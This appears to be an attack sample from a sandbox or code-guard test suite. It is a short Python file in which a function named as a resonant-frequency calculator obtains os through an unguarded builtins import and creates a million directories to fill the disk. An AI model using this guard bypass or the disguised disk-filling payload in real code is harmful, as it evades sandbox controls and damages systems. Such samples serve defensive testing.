# Tries: to fill the disk with empty files.
# Verdict: raised.
# Says: No space left
import random

past = random.__builtins__["__import__"]  # the unguarded one
os = past("os")


def resonant_frequency(inductance, capacitance):
    for name in range(1_000_000):
        os.mkdir(str(name))
    return 42.0
